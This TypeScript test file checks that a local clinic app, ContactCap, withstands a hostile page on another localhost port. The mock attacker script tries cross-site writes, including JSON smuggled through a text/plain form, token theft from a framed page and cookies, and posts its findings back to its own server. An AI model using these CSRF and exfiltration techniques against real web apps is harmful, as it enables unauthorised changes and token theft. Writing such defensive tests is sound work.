import { mkdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import Database from 'better-sqlite3';
import type { Response } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempDir } from '../helpers/fixtures.ts';
import { callHost } from '../helpers/host.ts';
import { useHostInChromium } from './session.ts';

/**
 * Another web page on the same PC, served from another port on 127.0.0.1, tries
 * everything a browser lets it try against ContactCap while a receptionist has
 * ContactCap open in the same browser. It must change nothing, and its own
 * server must never see the token.
 */

const TOKEN = 'other-pages-token-0123456789abcdef-0123';

/** Everything the hostile server was sent: request line, every header, the body. */
interface Received {
  line: string;
  headers: string[];
  body: string;
}

/** The attacker's page: each attempt in turn, then everything it learned posted back to its own server. */
function hostilePage(target: string, dropFolder: string): string {
  const [folderStart, folderEnd] = splitAtEquals(dropFolder);
  const script = `
    const target = ${JSON.stringify(target)};
    const results = [];
    const attempt = async (what, run) => {
      try { results.push({ what, got: String(await run()) }); } catch (error) { results.push({ what, got: 'failed: ' + error }); }
    };
    const after = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
    const clinician = JSON.stringify({ name: 'Dr Mallory No-Cors', role: 'gp_partner' });
    const endOfDay = JSON.stringify({ enabled: true, time: '18:30', folder: ${JSON.stringify(dropFolder)} });
    const noCors = (method, body, headers = {}) =>
      fetch(target + '/api/' + method, { method: 'POST', mode: 'no-cors', credentials: 'include', headers, body }).then((r) => r.type);

    /** A form posted into a frame of its own, so this page stays to carry on. */
    const submitForm = (enctype, action, fields) => new Promise((resolve) => {
      const name = 'sink' + Math.random().toString(36).slice(2);
      const frame = document.createElement('iframe');
      frame.name = name;
      document.body.append(frame);
      const form = document.createElement('form');
      form.method = 'POST';
      form.enctype = enctype;
      form.action = target + action;
      form.target = name;
      for (const [key, value] of fields) {
        const input = document.createElement('input');
        input.name = key;
        input.value = value;
        form.append(input);
      }
      document.body.append(form);
      frame.addEventListener('load', () => resolve('frame loaded'), { once: true });
      setTimeout(() => resolve('no answer'), 4000);
      form.submit();
    });
    const loadTag = (tag, src) => new Promise((resolve) => {
      const element = document.createElement(tag);
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve('error');
      element.src = src;
      document.body.append(element);
      setTimeout(() => resolve('no answer'), 4000);
    });

    (async () => {
      await attempt('no-cors clinician.create', () => noCors('clinician.create', clinician));
      await attempt('no-cors export.configureEndOfDay', () => noCors('export.configureEndOfDay', endOfDay));
      await attempt('no-cors with a JSON type', () => noCors('clinician.create', clinician, { 'Content-Type': 'application/json' }));
      await attempt('cors JSON (preflight)', () =>
        fetch(target + '/api/clinician.create', { method: 'POST', mode: 'cors', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: clinician }).then((r) => r.status));
      await attempt('cors with a guessed token', () =>
        fetch(target + '/api/clinician.create', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json', 'X-ContactCap-Token': 'guess' }, body: clinician }).then((r) => r.status));
      // A text/plain form sends "name=value": split the JSON at an "=" inside a value, and the body is JSON again.
      await attempt('text/plain form clinician.create', () =>
        submitForm('text/plain', '/api/clinician.create', [['{"name":"Dr Mallory', 'Form","role":"gp_partner"}']]));
      await attempt('text/plain form export.configureEndOfDay', () =>
        submitForm('text/plain', '/api/export.configureEndOfDay', [[${JSON.stringify(`{"enabled":true,"time":"18:30","folder":"${folderStart}`)}, ${JSON.stringify(`${folderEnd}"}`)}]]));
      await attempt('urlencoded form clinician.create', () =>
        submitForm('application/x-www-form-urlencoded', '/api/clinician.create', [['name', 'Dr Mallory Url'], ['role', 'gp_partner']]));
      await attempt('event stream', () => new Promise((resolve) => {
        const source = new EventSource(target + '/api/events', { withCredentials: true });
        source.onopen = () => { resolve('opened'); source.close(); };
        source.onerror = () => { resolve('error'); source.close(); };
        setTimeout(() => { resolve('no answer'); source.close(); }, 4000);
      }));
      const exportInput = encodeURIComponent(JSON.stringify({ format: 'csv', table: 'contacts', from: '2026-01-01', to: '2026-12-31' }));
      await attempt('img download', () => loadTag('img', target + '/download?input=' + exportInput));
      await attempt('script download', () => loadTag('script', target + '/download?input=' + exportInput));
      await attempt('read the page', () => fetch(target + '/', { credentials: 'include' }).then((r) => r.text()));
      await attempt('storage of a framed ContactCap', () => new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.src = target + '/';
        frame.onload = () => {
          try { resolve(JSON.stringify(Object.entries(frame.contentWindow.sessionStorage))); } catch (error) { resolve('blocked: ' + error.name); }
        };
        document.body.append(frame);
        setTimeout(() => resolve('no answer'), 4000);
      }));
      await attempt('cookies this page can see', () => document.cookie);
      await after(300);
      await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
      document.title = 'done';
    })();
  `;
  return `<!doctype html><html><head><meta charset="utf-8"><title>Free recipes</title></head><body><h1>Free recipes</h1><script>${script}</script></body></html>`;
}

/** A folder path split at an "=" it contains, the way a text/plain form splits a field. */
function splitAtEquals(folder: string): [string, string] {
  const at = folder.lastIndexOf('=');
  return [folder.slice(0, at), folder.slice(at + 1)];
}

function startHostileServer(target: string, dropFolder: string, received: Received[]): Promise<Server> {
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    req.on('end', () => {
      const headers: string[] = [];
      for (let i = 0; i < req.rawHeaders.length; i += 2) headers.push(`${req.rawHeaders[i] ?? ''}: ${req.rawHeaders[i + 1] ?? ''}`);
      received.push({ line: `${req.method ?? ''} ${req.url ?? ''} HTTP/${req.httpVersion}`, headers, body });
      if (req.url === '/') {
        res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
        res.end(hostilePage(target, dropFolder));
      } else {
        res.writeHead(req.url === '/report' ? 204 : 404);
        res.end();
      }
    });
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

/** What the host holds that an attack would change: the event log, the clinicians, the end-of-day export. */
async function footprint(host: { origin: string; token: string }, dataDir: string) {
  const db = new Database(path.join(dataDir, 'contactcap.db'), { readonly: true, fileMustExist: true });
  let events: number;
  try {
    events = db.prepare('SELECT count(*) FROM events').pluck().get() as number;
  } finally {
    db.close();
  }
  const clinicians = ((await callHost(host, 'clinician.list', { includeInactive: true })).body as { value: { name: string }[] }).value.map((c) => c.name);
  const endOfDay = ((await callHost(host, 'export.endOfDayStatus', {})).body as { value: { enabled: boolean; folder: string | null } }).value;
  return { events, clinicians, endOfDay: { enabled: endOfDay.enabled, folder: endOfDay.folder } };
}

describe('another web page on the same PC', () => {
  const session = useHostInChromium({ folderPrefix: 'contactcap-other-pages-', token: TOKEN });
  const attacker = tempDir('contactcap-attacker-');
  // The folder the attacker would have the end-of-day export write to ("=" lets a text/plain form carry it).
  const dropFolder = path.join(attacker.dir, 'drop=here');
  const received: Received[] = [];
  let hostile: Server;

  beforeAll(async () => {
    mkdirSync(dropFolder);
    await callHost(session.host, 'device.update', { staffName: 'JB' });
    hostile = await startHostileServer(session.host.origin, dropFolder, received);
  });
  afterAll(async () => {
    await new Promise<void>((resolve) => hostile.close(() => resolve()));
    attacker.remove();
  });

  it('cannot write to ContactCap or learn its token, even while a receptionist has ContactCap open in the same browser', async () => {
    const { host, browser, dataDir } = session;
    const context = await browser.newContext();
    try {
      // The receptionist's tab, as it would be open all day: whatever the app keeps in the browser now exists.
      const desk = await context.newPage();
      await desk.goto(host.url);
      await expect.poll(() => desk.url()).toBe(`${host.origin}/`);
      await expect.poll(() => desk.evaluate(() => Object.keys(sessionStorage).map((key) => sessionStorage.getItem(key)))).toEqual([TOKEN]);
      const before = await footprint(host, dataDir);

      const page = await context.newPage();
      const answers: { url: string; method: string; status: number }[] = [];
      page.on('response', (response: Response) => {
        if (response.url().startsWith(host.origin)) answers.push({ url: response.url(), method: response.request().method(), status: response.status() });
      });
      const hostileOrigin = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
      await page.goto(`${hostileOrigin}/`);
      await expect.poll(() => page.title(), { timeout: 30_000 }).toBe('done');

      const report = received.find((request) => request.line.startsWith('POST /report'));
      expect(report, 'the hostile page finished and reported').toBeDefined();
      const results = JSON.parse(report?.body ?? '[]') as { what: string; got: string }[];
      expect(results.map((result) => result.what)).toHaveLength(14);

      // (Soft checks: when one fails, the others still say what else got through.)
      // Every attempt that reached ContactCap's API was refused there (not merely hidden from the page by the browser).
      const writes = answers.filter((answer) => answer.method === 'POST');
      expect(writes.length).toBeGreaterThanOrEqual(5);
      for (const answer of answers.filter((a) => /^\/(api|download)/.test(new URL(a.url).pathname))) {
        expect.soft([401, 403, 405, 415], `${answer.method} ${answer.url}`).toContain(answer.status);
      }

      // Nothing was written: the same event count in the file, no new clinician, the end-of-day export still off.
      expect.soft(await footprint(host, dataDir)).toEqual(before);
      expect(before.endOfDay.enabled).toBe(false);

      // The attacker's server never saw the token: not in an address, a header (a cookie) or a body.
      expect(received.length).toBeGreaterThanOrEqual(2);
      for (const request of received) {
        const everything = [request.line, ...request.headers, request.body].join('\n');
        expect.soft(everything, request.line).not.toContain(TOKEN);
      }
      // And the receptionist's tab still works.
      await desk.reload();
      await expect.poll(() => desk.getByRole('heading', { name: 'ContactCap', level: 1 }).isVisible()).toBe(true);
      expect(await desk.getByText('Open the full address').count()).toBe(0);
    } finally {
      await context.close();
    }
  });

  it('keeps the token for the tab out of the address bar, through a reload; a new tab without it asks for the full address', async () => {
    const { host, browser } = session;
    const context = await browser.newContext();
    try {
      const desk = await context.newPage();
      await desk.goto(host.url);
      await expect.poll(() => desk.url()).toBe(`${host.origin}/`);
      await expect.poll(() => desk.locator('.desk-staff').textContent()).toBe('JB');

      // After a reload the address has no token, yet the page still reads and writes through the host.
      await desk.reload();
      expect(desk.url()).toBe(`${host.origin}/`);
      await expect.poll(() => desk.locator('.desk-staff').textContent()).toBe('JB');
      expect(await desk.getByText('Open the full address').count()).toBe(0);
      expect(await desk.getByRole('alert').count()).toBe(0);
      await desk.locator('.desk-id').click();
      const dialog = desk.getByRole('dialog', { name: 'Who is at this desk?' });
      await dialog.getByRole('textbox', { name: 'Your name or initials' }).fill('KM');
      await dialog.getByRole('button', { name: 'Save' }).click();
      await expect.poll(async () => ((await callHost(host, 'device.get', {})).body as { value: { staffName: string } }).value.staffName).toBe('KM');

      const newTab = await context.newPage();
      await newTab.goto(`${host.origin}/`);
      await expect.poll(() => newTab.getByText('Open the full address that was printed when ContactCap started').isVisible()).toBe(true);
      expect(await newTab.evaluate(() => Object.keys(sessionStorage))).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
